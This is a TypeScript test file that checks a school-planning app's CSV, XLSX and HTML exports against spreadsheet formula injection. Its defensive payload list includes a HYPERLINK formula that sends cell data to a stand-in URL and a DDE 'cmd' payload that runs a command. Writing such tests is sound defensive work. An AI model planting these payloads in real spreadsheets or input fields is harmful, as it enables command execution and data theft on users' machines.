import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField, inertCell } from '../../src/csv.js';
import { auth, buildTestApp, type TestApp } from '../helpers.js';
import { tinyCounty } from '../planning-fixture.js';

/**
 * Issue #18 point 4 (OWASP CSV injection): a teacher or school named like a formula is written into
 * every export so that no spreadsheet evaluates it: export.csv, export.xlsx, notice.xlsx and
 * export/teachers.csv; notice.html shows the name as text.
 */
const PAYLOADS = ['=HYPERLINK("http://x"&A1,"点我")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|x', '-2+3'];
/** what a spreadsheet evaluates: a cell starting with one of these (OWASP) */
const LIVE = /^[=+\-@\t\r]/;

/** RFC 4180 rows of a CSV document (the BOM dropped). */
function parseCsv(doc: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  const s = doc.replace(/^\uFEFF/, '');
  for (let i = 0; i < s.length; i++) {
    const c = s[i];
    if (quoted) {
      if (c === '"' && s[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && s[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** every cell of every sheet: its type and value */
async function cellsOf(body: Buffer) {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(body as unknown as ArrayBuffer);
  const out: { type: ExcelJS.ValueType; value: ExcelJS.CellValue; where: string }[] = [];
  wb.eachSheet((ws) => ws.eachRow((row) => row.eachCell((cell) => out.push({ type: cell.type, value: cell.value, where: `${ws.name}!${cell.address}` }))));
  return out;
}

describe('spreadsheet-safe exports', () => {
  let t: TestApp;
  let proposalId = '';
  const get = (url: string) => t.app.inject({ method: 'GET', url: `/api/v1${url}`, headers: auth() });

  beforeAll(async () => {
    t = await buildTestApp();
    const county = tinyCounty();
    // every teacher and every school named like a formula: whoever the solver moves, the exports carry them
    for (const [i, x] of county.teachers.entries()) x.name = PAYLOADS[i % PAYLOADS.length];
    for (const [i, s] of county.schools.entries()) s.name = `${PAYLOADS[i % PAYLOADS.length]}${i}`;
    expect((await t.app.inject({ method: 'PUT', url: '/api/v1/import', headers: auth(), payload: county })).statusCode).toBe(200);
    const plan = (await t.app.inject({ method: 'POST', url: '/api/v1/plans', headers: auth(), payload: { year: 2027 } })).json();
    proposalId = (await t.app.inject({ method: 'POST', url: `/api/v1/plans/${plan.id}/proposals`, headers: auth(), payload: {} })).json().id;
    await t.app.solveRunner.idle();
    expect((await get(`/proposals/${proposalId}`)).json().summary.totalLines).toBeGreaterThan(0);
  });
  afterAll(async () => t?.close());

  it('one guard: text starting with = + - @ tab or CR gets a leading quote; numbers, negative ones too, stay numbers', () => {
    for (const p of [...PAYLOADS, '\tx', '\rx']) expect(inertCell(p)).toBe(`'${p}`);
    expect(inertCell(-2)).toBe(-2);
    expect(csvField(-2)).toBe('-2');
    expect(csvField(3.5)).toBe('3.5');
    expect(csvField('2027-09-01')).toBe('2027-09-01');
    expect(csvField('惠城实验小学')).toBe('惠城实验小学');
    expect(csvField('\rx')).toBe(`"'\rx"`);
    expect(csvField(['=a', 'b'])).toBe("'=a;b");
  });

  it('a name starting with a tab or a carriage return never gets in (text fields refuse control characters)', async () => {
    for (const name of ['\tx', '\rx']) {
      const county = tinyCounty();
      county.teachers[0].name = name;
      const res = await t.app.inject({ method: 'PUT', url: '/api/v1/import', headers: auth(), payload: county });
      expect(res.statusCode).toBe(400);
      expect(res.json().details).toContainEqual(expect.objectContaining({ kind: 'teachers', index: 0, message: 'must not contain control characters' }));
    }
  });

  for (const [name, url] of [
    ['export.csv', () => `/proposals/${proposalId}/export.csv`],
    ['export/teachers.csv', () => '/export/teachers.csv'],
  ] as const) {
    it(`${name}: every formula-like name is written with a leading quote, no cell starts live`, async () => {
      const res = await get(url());
      expect(res.statusCode).toBe(200);
      const rows = parseCsv(res.body);
      const cells = rows.slice(1).flat();
      expect(cells.filter((c) => LIVE.test(c))).toEqual([]);
      // teachers.csv lists every teacher; export.csv those the proposal moves, with their schools' names
      const written = PAYLOADS.filter((p) => cells.some((c) => c.startsWith(`'${p}`)));
      if (name === 'export/teachers.csv') expect(written).toEqual(PAYLOADS);
      else expect(written.length).toBeGreaterThanOrEqual(2);
    });
  }

  for (const [name, url] of [
    ['export.xlsx', () => `/proposals/${proposalId}/export.xlsx`],
    ['notice.xlsx', () => `/proposals/${proposalId}/notice.xlsx`],
  ] as const) {
    it(`${name}: no formula cell, and every formula-like name is a string cell with a leading quote`, async () => {
      const res = await get(url());
      expect(res.statusCode).toBe(200);
      const cells = await cellsOf(res.rawPayload);
      expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula).map((c) => c.where)).toEqual([]);
      const texts = cells.filter((c) => typeof c.value === 'string').map((c) => c.value as string);
      expect(texts.filter((v) => LIVE.test(v))).toEqual([]);
      const names = texts.filter((v) => PAYLOADS.some((p) => v.startsWith(`'${p}`)));
      expect(names.length).toBeGreaterThan(0);
      // numbers stay numbers (序号)
      expect(cells.some((c) => c.type === ExcelJS.ValueType.Number)).toBe(true);
    });
  }

  it('notice.html shows each name as escaped text, without the quote a spreadsheet needs', async () => {
    const res = await get(`/proposals/${proposalId}/notice.html`);
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('=HYPERLINK(&quot;http://x&quot;&amp;A1,&quot;点我&quot;)');
    expect(res.body).toContain('+cmd|&#39; /C calc&#39;!A0');
    expect(res.body).not.toContain('"http://x"');
    expect(res.body).not.toMatch(/&#39;(=|\+cmd|@SUM|-2\+3)/);
  });
});
